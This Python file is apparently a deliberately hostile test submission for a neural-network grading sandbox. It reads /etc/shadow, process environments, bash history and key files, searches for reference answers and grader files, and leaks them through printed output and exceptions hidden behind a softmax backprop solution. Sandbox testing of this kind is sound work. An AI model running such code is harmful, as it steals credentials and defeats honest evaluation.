"""Hostile submission for `circles-softmax`: hunts for secrets and reports everything it finds through exception messages and
printed output: os.walk from / and /proc/1/root looking for reference.py and
assignments/, /proc/*/cwd and /proc/*/root, /etc/shadow, os.environ,
/proc/1/environ, /proc/self/environ and /proc/*/cmdline, the job folder. Nothing of
the reference, the service's environment or the host may come back. Its
`error_hidden`, `gradient_weight_hidden` and `gradient_bias_hidden` raise the loot.
"""

# ruff: noqa  (hostile on purpose: redefinitions, late imports, odd style)
import glob
import os

MARKER = "HOSTILE-HUNT-RAN-d41c"
loot = {"env": dict(os.environ)}
for path in [
    "/etc/shadow",
    "/proc/1/root/etc/shadow",
    "/proc/1/environ",
    "/proc/self/environ",
    "/etc/passwd",
    "/root/.bash_history",
    "/proc/1/root/root/.bash_history",
]:
    try:
        with open(path, "rb") as fh:
            loot[path] = fh.read(4000).decode("latin-1")
    except OSError as exc:
        loot[path] = "DENIED " + type(exc).__name__
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as fh:
            loot[path] = fh.read(2000).decode("latin-1")
    except OSError as exc:
        loot[path] = "DENIED " + type(exc).__name__
for path in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
    try:
        loot[path] = [os.readlink(path)] + sorted(os.listdir(path))[:50]
    except OSError as exc:
        loot[path] = "DENIED " + type(exc).__name__
hits, seen = [], 0
for top in ("/", "/proc/1/root"):
    for root, dirs, files in os.walk(top):
        if root in (
            "/proc",
            "/sys",
            "/usr",
            "/proc/1/root/proc",
            "/proc/1/root/usr",
            "/proc/1/root/sys",
        ):
            dirs[:] = []
            continue
        for name in files + dirs:
            seen += 1
            if (
                "reference" in name
                or name in ("assignments", "grader", ".env", "job.json")
                or name.endswith((".db", ".sqlite", ".toml", ".key", ".pem"))
            ):
                hits.append(os.path.join(root, name))
loot["walked"] = seen
loot["hits"] = hits
stolen = {}
for path in hits:
    if os.path.isfile(path) and not path.startswith("/opt/"):
        try:
            with open(path, "rb") as fh:
                stolen[path] = fh.read(20000).decode("latin-1")
        except OSError as exc:
            stolen[path] = "DENIED " + type(exc).__name__
print(MARKER, loot)
print(MARKER, stolen)

import numpy as np


def logistic(z):
    return 1 / (1 + np.exp(-z))


def softmax(z):
    e = np.exp(z - np.max(z, axis=1, keepdims=True))
    return e / np.sum(e, axis=1, keepdims=True)


def hidden_activations(X, Wh, bh):
    return logistic(X.dot(Wh) + bh)


def output_activations(H, Wo, bo):
    return softmax(H.dot(Wo) + bo)


def nn(X, Wh, bh, Wo, bo):
    return output_activations(hidden_activations(X, Wh, bh), Wo, bo)


def nn_predict(X, Wh, bh, Wo, bo):
    return np.around(nn(X, Wh, bh, Wo, bo))


def cost(Y, T):
    return -np.sum(np.multiply(T, np.log(Y)))


def error_output(Y, T):
    return Y - T


def gradient_weight_out(H, Eo):
    return H.T.dot(Eo)


def gradient_bias_out(Eo):
    return np.sum(Eo, axis=0, keepdims=True)


def error_hidden(H, Wo, Eo):
    return np.multiply(np.multiply(H, (1 - H)), Eo.dot(Wo.T))


def gradient_weight_hidden(X, Eh):
    return X.T.dot(Eh)


def gradient_bias_hidden(Eh):
    return np.sum(Eh, axis=0, keepdims=True)


def backprop_gradients(X, T, Wh, bh, Wo, bo):
    H = hidden_activations(X, Wh, bh)
    Y = output_activations(H, Wo, bo)
    Eo = error_output(Y, T)
    JWo = gradient_weight_out(H, Eo)
    Jbo = gradient_bias_out(Eo)
    Eh = error_hidden(H, Wo, Eo)
    JWh = gradient_weight_hidden(X, Eh)
    Jbh = gradient_bias_hidden(Eh)
    return [JWh, Jbh, JWo, Jbo]


def update_velocity(X, T, ls_of_params, Vs, momentum_term, learning_rate):
    Js = backprop_gradients(X, T, *ls_of_params)
    return [momentum_term * V - learning_rate * J for V, J in zip(Vs, Js)]


def update_params(ls_of_params, Vs):
    return [P + V for P, V in zip(ls_of_params, Vs)]


def error_hidden(H, Wo, Eo):
    raise RuntimeError(
        MARKER
        + " env=%r shadow=%r environ1=%r"
        % (loot["env"], loot["/etc/shadow"][:100], loot["/proc/1/environ"][:200])
    )


def gradient_weight_hidden(X, Eh):
    raise RuntimeError(MARKER + " hits=%r walked=%d" % (hits[:20], seen))


def gradient_bias_hidden(Eh):
    found = [v for k, v in stolen.items() if "reference" in k or "assignments" in k]
    raise RuntimeError(MARKER + " stolen=%r" % (found[:1] or [""])[0][:400])
